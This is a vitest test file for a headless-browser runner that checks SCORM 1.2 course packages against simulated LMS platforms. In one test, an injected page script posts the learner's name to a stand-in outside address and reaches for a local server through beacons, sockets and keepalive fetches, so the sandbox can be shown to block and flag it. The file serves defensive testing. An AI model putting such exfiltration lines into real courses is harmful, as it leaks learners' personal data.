import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findChromium } from '../../packager/lms/browser.ts';
import { LEARNER } from '../../packager/lms/page-config.ts';
import { THREE_VISITS } from '../../packager/lms/plan.ts';
import type { Recording } from '../../packager/lms/recording.ts';
import { type RunCut, type RunOptions, runPackage } from '../../packager/lms/robot.ts';
import { judge } from '../../packager/lms/verdict.ts';
import type { RunKey } from '../../packager/lms/verdict-words.en.ts';
import { fixture } from './packages.ts';
import { walksInOneBrowser } from './walks.ts';

const walkIn = walksInOneBrowser();

const PAGE = readFileSync(new URL('./fixtures/small/index.html', import.meta.url), 'utf8');
const SCO = readFileSync(new URL('./fixtures/small/sco.js', import.meta.url), 'utf8');

const OPTIONS = { kind: 'scorm12', launch: 'index.html', lang: 'en' } as const;

/** Platform beside platform: the robot mostly waits for their clocks. */
const run = async (
  changes: Record<string, string | null>,
  lms: RunOptions['lms'] = ['strict', 'igot-2026'],
): Promise<Recording[]> => {
  const runs = lms.map((one) => walkIn(fixture('small', changes), { ...OPTIONS, lms: [one] }));
  return (await Promise.all(runs)).flat();
};

const keys = (recordings: readonly Recording[]): RunKey[] =>
  [...new Set(judge(recordings).map((f) => f.key))].sort();

describe('a course that behaves well', () => {
  let recordings: Recording[];
  beforeAll(async () => {
    recordings = await run({});
  });

  it('is launched three times on each platform', () => {
    expect(recordings.map((r) => [r.lms, r.attempt])).toEqual([
      ['strict', 1],
      ['strict', 2],
      ['strict', 3],
      ['igot-2026', 1],
      ['igot-2026', 2],
      ['igot-2026', 3],
    ]);
  });
  it('is left in the middle and resumed there', () => {
    for (const [first, second] of [
      [recordings[0], recordings[1]],
      [recordings[3], recordings[4]],
    ]) {
      expect(first?.stopped).toBe('middle');
      expect(first?.screens.at(-1)?.heading).toBe('Middle');
      expect(second?.screens[0]?.heading).toBe('Middle');
    }
  });
  it('gets the same answers, by its own key, on both', () => {
    const given = (lms: string) => recordings.filter((r) => r.lms === lms).flatMap((r) => r.answers);
    expect(given('strict').map((a) => [a.question, a.chosen, a.by])).toEqual([
      ['Which is second?', ['b'], 'key'],
      ['Second?', ['b'], 'key'],
      ['First and third?', ['a', 'c'], 'key'],
    ]);
    expect(given('igot-2026')).toEqual(given('strict'));
  });
  it('is recorded as each platform can', () => {
    expect(recordings[1]?.recorded).toMatchObject({
      completion: 'completed',
      success: 'passed',
      scoreScaled: 1,
      suspendDataLength: 2,
    });
    expect(recordings[4]?.recorded).toMatchObject({
      completion: 'completed',
      progress: 100,
      suspendDataLength: 2,
    });
    expect(recordings[2]?.recorded.completion).toBe('completed');
    expect(recordings[5]?.recorded.completion).toBe('completed');
  });
  it('has pictures of its first and last screens', () => {
    const png = [0x89, 0x50, 0x4e, 0x47];
    expect([...(recordings[0]?.pictures?.first.subarray(0, 4) ?? [])]).toEqual(png);
  });
  it('gives no finding', () => {
    expect(judge(recordings)).toEqual([]);
  });
});

describe('a course that', () => {
  it('never looks for the platform has no API found', async () => {
    const silent = SCO.replace(
      'const api = find(window);',
      "const api = { LMSInitialize() {}, LMSGetValue: () => '', LMSSetValue() {}, LMSCommit() {}, LMSFinish() {} };",
    );
    expect(keys(await run({ 'sco.js': silent }, ['strict']))).toEqual(['api-not-found']);
  });

  it('writes only while leaving loses it on iGOT and not on a strict platform', async () => {
    const late = SCO.replace(/const save = \(\) => \{[^}]*\};/, 'const save = () => {};').replace(
      "set('cmi.core.exit', 'suspend');",
      "set('cmi.core.lesson_location', String(at)); set('cmi.suspend_data', state); set('cmi.core.exit', 'suspend');",
    );
    const recordings = await run({ 'sco.js': late });
    const by = (lms: string) => keys(recordings.filter((r) => r.lms === lms));
    expect(by('strict')).toEqual([]);
    expect(by('igot-2026')).toEqual(['nothing-kept', 'written-too-late']);
  });

  it('hangs is ended, and the calls before it are kept', async () => {
    const hanging = SCO.replace(
      "if (id === 'next') at++;",
      "if (id === 'next' && at === 1) for (;;);\n  if (id === 'next') at++;",
    );
    // The browser is ended with it, so it has one of its own.
    const ran = await runPackage(fixture('small', { 'sco.js': hanging }), {
      ...{ ...OPTIONS, lms: ['strict'] },
      plan: THREE_VISITS.slice(0, 2),
    });
    const recordings = ran.ok ? ran.value : [];
    expect(recordings.map((r) => r.hung)).toEqual([true, true]);
    expect(recordings[0]?.calls.map((c) => c.name)).toContain('LMSSetValue');
    expect(keys(recordings)).toContain('hung');
  });

  it('breaks the data model and misbehaves in the browser is told each thing', async () => {
    const wrong = SCO.replace(
      "set('cmi.suspend_data', state);",
      "set('cmi.suspend_data', 'x'.repeat(5000)); set('cmi.core.score.scaled', '1'); set('cmi.core.exit', 'normal');",
    );
    const page = PAGE.replace(
      '<main',
      `<img src="gone.png" alt=""><script>
        fetch('https://cdn.example/x.js').catch(() => {});
        alert('hello'); window.open('about:blank'); setTimeout(() => { throw new Error('oh'); });
      </script><main`,
    );
    const recordings = await run({ 'sco.js': wrong, 'index.html': page }, ['strict']);
    expect(recordings[0]?.network).toEqual(['https://cdn.example/x.js']);
    expect(recordings[0]?.missing).toEqual(['gone.png']);
    const found = judge(recordings).map((f) => [
      f.key,
      f.data.element ?? f.data.length ?? f.data.file ?? f.data.host,
    ]);
    expect(found).toEqual(
      expect.arrayContaining([
        ['suspend-data-over-limit', 5000],
        ['element-unknown', 'cmi.core.score.scaled'],
        ['value-out-of-spec', 'cmi.core.exit'],
        ['file-missing', 'gone.png'],
        ['network-attempt', 'cdn.example'],
      ]),
    );
    expect(keys(recordings)).toEqual(expect.arrayContaining(['console-error', 'dialog', 'popup']));
  });

  it('reaches for a neighbour on the same machine, or for the world, gets nowhere and is told', async () => {
    let reached = 0;
    const neighbour = createServer((_, reply) => {
      reached++;
      reply.end();
    });
    await new Promise<void>((done) => neighbour.listen(0, '127.0.0.1', done));
    const own = `127.0.0.1:${(neighbour.address() as AddressInfo).port}`;
    const page = PAGE.replace(
      '<main',
      `<script>
        for (const mode of ['cors', 'no-cors']) fetch('http://${own}/' + mode, { mode }).catch(() => {});
        navigator.sendBeacon('http://${own}/beacon', 'x');
        new WebSocket('ws://${own}/socket');
        fetch('http://192.0.2.7/number').catch(() => {});
        fetch('http://192.0.2.8/${encodeURIComponent(LEARNER.name)}', { method: 'POST', body: 'x' }).catch(() => {});
        addEventListener('pagehide', () => void fetch('http://${own}/last', { mode: 'no-cors', keepalive: true }));
      </script><main`,
    );
    const recordings = await run({ 'index.html': page }, ['strict']);
    const [first] = recordings;
    neighbour.close();
    expect(judge(recordings).find(({ key }) => key === 'learner-data-sent')?.data).toMatchObject({
      datum: 'name',
      host: '192.0.2.8',
    });
    expect(reached).toBe(0);
    expect([...(first?.network ?? [])].sort()).toEqual([
      ...['beacon', 'cors', 'last', 'no-cors'].map((name) => `http://${own}/${name}`),
      'http://192.0.2.7/number',
      `http://192.0.2.8/${encodeURIComponent(LEARNER.name)}`,
      `ws://${own}/socket`,
    ]);
  });

  it('completes itself on opening and changes its page all the time is told both, on iGOT', async () => {
    const eager = SCO.replace(
      "set('cmi.core.lesson_status', 'incomplete')",
      "set('cmi.core.lesson_status', 'completed')",
    );
    const restless = `${eager}\nsetInterval(() => document.body.classList.toggle('tick'), 500);`;
    const found = keys(await run({ 'sco.js': restless }, ['igot-2026']));
    expect(found).toEqual(expect.arrayContaining(['completed-at-load', 'saved-only-on-leaving']));
  });
});

describe('a run', () => {
  it('is cancelled by its signal', async () => {
    const cancel = new AbortController();
    const ran = runPackage(fixture('small'), {
      ...{ kind: 'scorm12', launch: 'index.html', lms: ['strict'], lang: 'en', signal: cancel.signal },
      onProgress: ({ screens }) => {
        if (screens === 2) cancel.abort(new Error('enough'));
      },
    });
    expect(await ran).toMatchObject({ ok: false, error: { code: 'cancelled' } });
  });

  it('ends when its time is over, and says how far it got', async () => {
    const endless = `let n = 0; const go = () => { document.querySelector('h1').textContent = 'Page ' + ++n; };
      document.body.innerHTML = '<h1>Page 0</h1><button>Next</button>';
      document.querySelector('button').onclick = go;`;
    const cuts: RunCut[] = [];
    const ran = await runPackage(fixture('small', { 'sco.js': endless }), {
      ...{ kind: 'scorm12', launch: 'index.html', lms: ['strict', 'igot-2023'], lang: 'en', extras: true },
      plan: [{ goal: 'end', tests: 'pass' }],
      within: 6000,
      onCut: (cut) => cuts.push(cut),
    });
    if (!ran.ok) throw new Error(ran.error.detail);
    expect(ran.value.map(({ lms, cut, stopped }) => [lms, cut, stopped])).toEqual([
      ['strict', true, 'too-long'],
    ]);
    expect(cuts).toEqual([{ done: 0, of: 5, within: 6000 }]);
  });
});

describe('without a browser', () => {
  const named = process.env.CHROMIUM_PATH;
  beforeAll(() => {
    process.env.CHROMIUM_PATH = '/no/such/chromium';
  });
  afterAll(() => {
    if (named === undefined) delete process.env.CHROMIUM_PATH;
    else process.env.CHROMIUM_PATH = named;
  });
  it('says so as a value', async () => {
    expect(findChromium(() => '/bin/sh')).toBeUndefined();
    const ran = await runPackage(fixture('small'), {
      kind: 'scorm12',
      launch: 'index.html',
      lms: ['strict'],
      lang: 'en',
    });
    expect(ran).toEqual({ ok: false, error: { code: 'no-chromium', detail: '/no/such/chromium' } });
  });
});
